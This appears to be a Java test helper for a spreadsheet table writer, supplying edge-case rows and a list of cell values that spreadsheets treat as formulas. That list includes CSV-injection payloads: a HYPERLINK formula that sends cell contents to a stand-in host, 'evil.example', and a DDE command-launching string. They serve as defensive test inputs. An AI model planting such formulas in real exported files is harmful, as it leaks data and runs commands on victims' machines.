package io.bpohub.documents;

import io.bpohub.api.documents.TableWriter;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.ZonedDateTime;
import java.util.Arrays;
import java.util.List;

/** Tables the tests write, and the awkward values in them. */
final class Tables {
    /** Every start that a spreadsheet runs as a formula or DDE call. */
    static final List<String> FORMULAS = List.of("=1+1", "+SUM(1,1)", "-2+3", "@cmd", "\tx", "\rx",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "=cmd|' /C calc'!A0");
    static final List<String> HEADERS = List.of("id", "tenant", "note", "amount", "when", "answered");

    private Tables() {
    }

    static List<List<?>> awkwardRows() {
        return List.of(
                Arrays.asList(1L, "北京科技有限公司", "comma, \"quoted\" and\r\ntwo lines", new BigDecimal("1234.50"), LocalDate.parse("2026-11-30"), true),
                Arrays.asList(2L, "Acme GmbH", "", new BigDecimal("-5.25"), Instant.parse("2026-11-30T10:15:30Z"), false),
                Arrays.asList(3L, "Ünïcødé — ÅÄÖ", null, new BigDecimal("0.00000001"),
                        ZonedDateTime.of(2026, 11, 30, 18, 15, 30, 0, ZoneId.of("Asia/Shanghai")), null));
    }

    static byte[] write(TableWriter.Format format, String sheet, List<String> headers, List<? extends List<?>> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new SpreadsheetTableWriter().write(format, sheet, headers, rows.iterator(), out);
        return out.toByteArray();
    }
}
